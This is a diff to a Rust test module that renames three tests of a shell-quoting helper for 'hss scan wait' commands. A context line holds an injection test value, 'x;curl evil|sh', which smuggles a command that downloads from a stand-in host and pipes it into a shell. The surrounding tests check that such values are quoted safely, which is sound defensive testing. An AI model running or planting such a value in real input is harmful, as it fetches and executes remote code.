@@ -64,7 +64,7 @@ mod tests {
     ];
 
     #[test]
-    fn a_word_is_quoted_where_it_has_to_be() {
+    fn quotes_words_only_if_needed() {
         for (word, expected) in [
             ("2b31ed520xxxxxxebedb6e57xxxxxxxx", "2b31ed520xxxxxxebedb6e57xxxxxxxx"),
             ("x;curl evil|sh", "'x;curl evil|sh'"),
@@ -81,14 +81,14 @@ mod tests {
     }
 
     #[test]
-    fn an_argument_is_no_option() {
+    fn separates_arguments_that_look_like_options() {
         assert_eq!(command("hss scan wait", "t-1"), "hss scan wait t-1");
         assert_eq!(command("hss scan wait", "--html=x y"), "hss scan wait -- '--html=x y'");
     }
 
     #[cfg(unix)]
     #[test]
-    fn a_shell_gets_the_word_that_was_quoted() {
+    fn shells_read_quoted_words_unchanged() {
         use std::process::Command;
 
         let shells: Vec<_> = ["bash", "zsh", "ksh"]
